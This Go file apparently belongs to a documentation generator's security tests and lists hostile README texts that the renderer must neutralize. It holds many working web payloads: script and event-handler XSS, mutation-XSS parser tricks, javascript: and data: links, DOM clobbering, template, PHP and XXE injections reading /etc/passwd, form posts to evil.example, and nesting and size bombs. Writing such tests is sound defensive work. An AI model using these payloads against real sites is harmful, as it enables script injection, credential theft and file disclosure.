package generator

import (
	"strings"
	"unicode/utf16"
)

// attack is what each hostile text runs when it can: the browser's test looks
// for the dialog and for the name.
const attack = "alert(window.hostile=1)"

// readmes are what strangers might write, by the name of the repository. Each
// must leave the words "still here" on its page.
var readmes = map[string]string{
	// Script in every form.
	"script":              "<script>" + attack + "</script>\n\nstill here",
	"script-inline":       "text <script>" + attack + "</script> still here",
	"script-src":          "<script src=https://evil.example/x.js></script>\n\nstill here",
	"script-module":       "<script type=module>import 'https://evil.example/x.js';" + attack + "</script>\n\nstill here",
	"script-json":         "<script type=application/json id=search-manifest>{\"hash\":\"../../evil\"}</script>\n\nstill here",
	"script-case":         "<ScRiPt >" + attack + "</sCrIpT >\n\nstill here",
	"script-nested":       "<scr<script>ipt>" + attack + "</scr</script>ipt>\n\nstill here",
	"script-unclosed":     "still here\n\n<script>" + attack + "//",
	"script-slash":        "<script/x>" + attack + "</script/x>\n\nstill here",
	"script-nul":          "<scr\x00ipt>" + attack + "</scr\x00ipt>\n\nstill here",
	"script-in-code":      "```html\n</code></pre><script>" + attack + "</script>\n```\n\nstill here",
	"script-in-table":     "| a |\n|---|\n| </td></table><script>" + attack + "</script> still here |",
	"script-in-title":     "# <script>" + attack + "</script> still here",
	"script-in-footnote":  "still here[^1]\n\n[^1]: <script>" + attack + "</script>",
	"script-rst":          ".. raw:: html\n\n   <script>" + attack + "</script>\n\nstill here",
	"handlers":            "<p onclick=" + attack + " onmouseover=" + attack + ">still here</p><img src=x onerror=" + attack + "><body onload=" + attack + ">",
	"handlers-quoted":     "<img src='x' onerror='" + attack + "' alt='still here'>\n\nstill here",
	"handlers-slash":      "<img/src=x/onerror=" + attack + ">\n\nstill here",
	"handlers-newline":    "<img\nsrc=x\nonerror\n=\n" + attack + ">\n\nstill here",
	"handlers-focus":      "<input autofocus onfocus=" + attack + "><a tabindex=1 autofocus onfocus=" + attack + ">x</a>\n\nstill here",
	"handlers-animation":  "<p style='animation:x' onanimationstart=" + attack + ">still here</p>",
	"handlers-toggle":     "<details open ontoggle=" + attack + "><summary>still here</summary></details>",
	"handlers-popover":    "<button popovertarget=x>still here</button><p popover id=x onbeforetoggle=" + attack + ">x</p>\n\nstill here",
	"handlers-unicode":    "<img src=x \u2028onerror=" + attack + ">\n\nstill here",
	"attribute-breakout":  "![x\"onerror=\"" + attack + "](logo.svg \"a' onload='" + attack + "\")\n\nstill here",
	"autolink-breakout":   "<https://a.example/\"onmouseover=\"" + attack + "> https://a.example/'onmouseover='" + attack + "\n\nstill here",
	"entity-encoded":      "&lt;script&gt;" + attack + "&lt;/script&gt; &#60;img src=x onerror=" + attack + "&#62; still here",
	"double-encoded":      "&amp;lt;script&amp;gt;" + attack + " %3Cscript%3E" + attack + " still here",
	"import-map":          "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example\"}}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example\"]}]}</script>\n\nstill here",
	"service-worker-link": "<link rel=serviceworker href=x.js><link rel=manifest href=https://evil.example/m.json><link rel=modulepreload href=https://evil.example/x.js>\n\nstill here",

	// Parsers that disagree.
	"mxss-math":       "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + attack + "&gt;\">\n\nstill here",
	"mxss-form":       "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + attack + ">\n\nstill here",
	"mxss-svg":        "<svg></p><style><a id=\"</style><img src=1 onerror=" + attack + ">\">\n\nstill here",
	"mxss-noscript":   "<noscript><p title=\"</noscript><img src=x onerror=" + attack + ">\">\n\nstill here",
	"mxss-select":     "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=" + attack + ">\">\n\nstill here",
	"mxss-template":   "<template><svg><style></template><img src=x onerror=" + attack + "></style></svg></template>\n\nstill here",
	"mxss-shadow":     "<div><template shadowrootmode=open><slot></slot><img src=x onerror=" + attack + "></template>still here</div>",
	"mxss-comment":    "<!--><img src=x onerror=" + attack + ">-->\n\n<!-- --!><img src=x onerror=" + attack + "> -->\n\nstill here",
	"mxss-cdata":      "<svg><![CDATA[</svg><img src=x onerror=" + attack + ">]]>\n\nstill here ]]>",
	"mxss-xmp":        "<xmp><p title=\"</xmp><img src=x onerror=" + attack + ">\">\n\nstill here",
	"mxss-table":      "<table><a><tr><td></a><img src=x onerror=" + attack + "></table>\n\nstill here",
	"mxss-annotation": "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=" + attack + "></style></annotation-xml></math>\n\nstill here",
	"mxss-plaintext":  "still here\n\n<plaintext><img src=x onerror=" + attack + ">",
	"mxss-backtick":   "<a title=\"`<img src=x onerror=" + attack + ">`\">still here</a>",
	"svg-script":      "<svg><script href=data:text/javascript," + attack + " /><script>" + attack + "</script></svg>\n\nstill here",
	"svg-animate":     "<svg><a><animate attributeName=href values=javascript:" + attack + " /><text>click</text></a><set attributeName=onload to=" + attack + " /></svg>\n\nstill here",
	"svg-use":         "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=" + attack + " /></svg>#x'/></svg>\n\nstill here",
	"svg-foreign":     "<svg><foreignObject><iframe srcdoc='<script>" + attack + "</script>'></iframe></foreignObject></svg>\n\nstill here",
	"math-link":       "<math href=javascript:" + attack + "><maction actiontype=statusline xlink:href=javascript:" + attack + ">x</maction></math>\n\nstill here",

	// Clobbering what the page's own scripts look for.
	"clobber-search":   "<form id=search-form><input id=q name=q><input id=results name=attributes></form><a id=result-count></a><a id=facets-all></a><a id=search-manifest></a>\n\nstill here",
	"clobber-heads":    "# results\n\n# result-count\n\n# search-manifest\n\n# q\n\n# sort\n\n# facets-all\n\nstill here",
	"clobber-names":    "<img name=getElementById src=logo.svg><form name=querySelector></form><a name=documentElement></a><embed name=body>\n\nstill here",
	"clobber-proto":    "# __proto__\n\n# constructor\n\n# toString\n\n[a](#__proto__) [b](#constructor)\n\nstill here",
	"clobber-hooks":    "<div id=main data-component=evil/evil data-check=licence-present data-outcome=pass data-level=reusable data-search=idle data-copy=readme data-slot=name>still here</div><button data-copy=q>copy</button><input data-filter=x>",
	"clobber-landmark": "</article></section></main></body></html><main><header><nav><footer>still here</footer></nav></header></main>",
	"clobber-class":    "<div class='nhsuk-header app-head app-entry' role=banner aria-live=assertive aria-hidden=true hidden inert>still here</div>",
	"clobber-ids":      "<a id=level></a><a id=standards></a><a id=checks></a><a id=readme></a><a id=maincontent></a>\n\n# level\n\n# readme\n\nstill here",

	// Addresses in disguise.
	"impossible-hosts":  "# Hosts\n\n[a](https://[b]c.example/d) <https://e[f].example> https://g_[h].example/ [i](http://%zz/j) <a href=\"https://[k\">l</a> [m](https://n.example:port/)\n\nstill here\n\n## Contact\n\n[ask us](https://www.x[y].example/z) or [there](http://user:pass@h[i].example)",
	"javascript-links":  "[a](javascript:" + attack + ") [b](JaVaScRiPt:" + attack + ") [c](&#106;avascript:" + attack + ") [d](<java\tscript:" + attack + ">) [e](%6aavascript:" + attack + ") [f](javascript&colon;" + attack + ")\n\nstill here",
	"javascript-tags":   "<a href='java&NewLine;script:" + attack + "'>a</a><a href='&#1;javascript:" + attack + "'>b</a><a href='\x01javascript:" + attack + "'>c</a><a href=' &Tab;javascript:" + attack + "'>d</a><a href='jav&#x0A;ascript:" + attack + "'>e</a>\n\nstill here",
	"javascript-refs":   "[a][x] ![b][x] [x]\n\n[x]: javascript:" + attack + "\n\nstill here",
	"javascript-nested": "[a](feed:javascript:" + attack + ") [b](view-source:javascript:" + attack + ") [c](jar:javascript:" + attack + "!/) [d](javascript://%0a" + attack + ")\n\nstill here",
	"data-links":        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![b](data:image/svg+xml;base64,PHN2Zy8+) <a href='data:text/html,<script>" + attack + "</script>'>c</a>\n\nstill here",
	"other-schemes":     "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://evil.example/1) [d](filesystem:x) [e](ms-word:ofe|u|https://evil.example) [f](intent://x#Intent;end)\n\nstill here",
	"rtl-address":       "[https://nhs.uk](https://evil.example/\u202efdp.exe) [still here](https://аpple.example)\n\nstill here",
	"user-address":      "[https://github.com](https://github.com@evil.example/) [x](https://github.com%2f@evil.example)\n\nstill here",
	"climbing":          "[a](../../../../../etc/passwd) [b](%2e%2e/%2e%2e/%2e%2e/x) ![c](../../../../x.png) [d](/../../x) [e](..\\..\\x) [f](?x=../..)\n\nstill here",
	"backslash-hosts":   "<a href='\\\\evil.example\\x'>a</a><a href='/\\evil.example'>b</a><img src='\\\\evil.example\\x.png'><img src='/\\evil.example/x.png'> still here",

	// Loading and sending.
	"loads":       "<img src=https://evil.example/x.png><img srcset='https://evil.example/y 2x' src=logo.svg><picture><source srcset=//evil.example/z></picture><video src=//evil.example/v poster=//evil.example/p autoplay></video><audio src=//evil.example/a autoplay></audio>\n\nstill here",
	"loads-more":  "<iframe src=https://evil.example></iframe><object data=//evil.example/o></object><embed src=//evil.example/e><link rel=stylesheet href=//evil.example/c.css><link rel=prefetch href=//evil.example><input type=image src=//evil.example/i><table background=//evil.example/t><tr><td>still here</table>",
	"moves":       "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/><meta http-equiv=Content-Security-Policy content=\"default-src *\">\n\nstill here",
	"styles":      "<style>body{display:none}@import '//evil.example/x.css';</style><p style='position:fixed;inset:0;z-index:9999;background:url(//evil.example/b)'>still here</p>",
	"styles-open": "still here\n\n<style>*{visibility:hidden}",
	"forms":       "<form action=https://evil.example method=post><input name=password type=password><button formaction=javascript:" + attack + ">Sign in</button></form><button form=search-form formaction=//evil.example>go</button><input form=search-form name=language value=x> still here",
	"frames":      "<frameset><frame src=javascript:" + attack + "></frameset><portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>\n\nstill here",
	"pings":       "<a href=https://a.example ping=https://evil.example target=_top download attributionsrc=//evil.example>still here</a><img attributionsrc=//evil.example src=logo.svg>",
	"dialogs":     "<dialog open>Your session has ended</dialog><marquee onstart=" + attack + ">news</marquee><meter><progress>\n\nstill here",

	// Languages of templates and macros.
	"templates":  "{{ constructor.constructor('" + attack + "')() }} {{.C.Name}} {{template \"main\"}} {% include '/etc/passwd' %} ${" + attack + "} <%= system('id') %> #{7*7} still here",
	"templates2": "{{define \"main\"}}" + attack + "{{end}}\n\n{{printf \"%s\" .}} {{html .}} {{/* still here",
	"includes":   "include::/etc/passwd[]\n\n<!--#include file=\"/etc/passwd\" -->\n\n<?php system('id') ?>\n\n<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;\n\nstill here",

	// Text that is no text.
	"invalid-utf8": "still here \xff\xfe\xc0\xbcscript\xc0\xbe" + attack + "\xed\xa0\x80 \xf5",
	"utf-7":        "+ADw-script+AD4-" + attack + "+ADw-/script+AD4- still here",
	"nul":          "\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00 still here \x00\x01\x02\x08\x0b\x0c\x0e\x1f\x7f",
	"bidi":         "access \u202euser\u202c \u2066x \u2069 \u202a\u202b\u202d still here \u200e\u200f\u061c",
	"zalgo":        "s" + strings.Repeat("\u0301\u0489", 5000) + " still here",
	"separators":   "still here\u2028" + attack + "\u2029]]> \ufeff\ufffe\uffff",
	"rtl":          "# مرحبا بالعالم\n\nطويل جدا שלום still here",

	// Size and depth; the rest is made by huge.
	"bomb-yaml-front": "---\na: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]\n---\n\nstill here",
}

// huge are texts that are too long to write down.
func huge() map[string]string {
	return map[string]string{
		"deep-quotes":  "still here\n\n" + strings.Repeat(">", 10_000) + " x",
		"deep-lists":   "still here\n\n" + strings.Repeat("- ", 10_000) + "x",
		"deep-divs":    "still here\n\n" + strings.Repeat("<div>", 10_000) + "x",
		"deep-spans":   "still here\n\n" + strings.Repeat("<b><i>", 10_000) + "x",
		"deep-details": "still here\n\n" + strings.Repeat("<details><summary>x</summary>", 10_000),
		"deep-tables":  "still here\n\n" + strings.Repeat("<table><tr><td>", 10_000),
		"deep-svg":     "still here\n\n" + strings.Repeat("<svg><g>", 10_000),
		"many-links":   "still here\n\n" + strings.Repeat("[a](", 100_000),
		"many-heads":   "still here\n\n" + strings.Repeat("# x\n", 100_000),
		"many-items":   "still here\n\n" + strings.Repeat("- x\n", 100_000),
		"many-blocks":  "still here\n\n" + strings.Repeat("```\nx\n```\n\n", 50_000),
		"many-scripts": "still here\n\n" + strings.Repeat("a \u05d0 \u044f \U0001f600 ", 60_000),
		"many-letters": "still here\n\n" + strings.Repeat("\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22", 50_000),
		"many-columns": "still here\n\n<table><tr>\n\n" + strings.Repeat("<td colspan=1000>x\n\n", 40_000),
		"many-spans":   "still here\n\n<table>\n\n" + strings.Repeat("<tr>"+strings.Repeat("<td rowspan=9999 colspan=9>x\n\n", 10), 4_000),
		"many-colours": "still here\n\n```html\n" + strings.Repeat("a \u05d0 \u044f\n", 90_000) + "```",
		"long-line":    "still here " + strings.Repeat("x", 3<<20),
		"long-text":    "still here\n\n" + strings.Repeat("All work and no play makes a long text. ", 1<<20),
		"wide-table":   "still here\n\n" + strings.Repeat("|a", 5000) + "\n" + strings.Repeat("|-", 5000) + "\n" + strings.Repeat("|b\n", 50_000),
		"utf-16-le":    "\xff\xfe" + utf16le("<script>"+attack+"</script>\n\nstill here"),
		"utf-16-be":    "\xfe\xff" + swapped(utf16le("<img src=x onerror="+attack+">\n\nstill here")),
		"utf-16-bare":  utf16le("still here <script>" + attack + "</script>"),
		"binary":       "still here\n\n" + strings.Repeat("\x7fELF\x02\x01\x01\x00\x90", 10_000),
	}
}

func utf16le(s string) string {
	var out []byte
	for _, unit := range utf16.Encode([]rune(s)) {
		out = append(out, byte(unit), byte(unit>>8))
	}
	return string(out)
}

func swapped(s string) string {
	out := []byte(s)
	for i := 0; i+1 < len(out); i += 2 {
		out[i], out[i+1] = out[i+1], out[i]
	}
	return string(out)
}
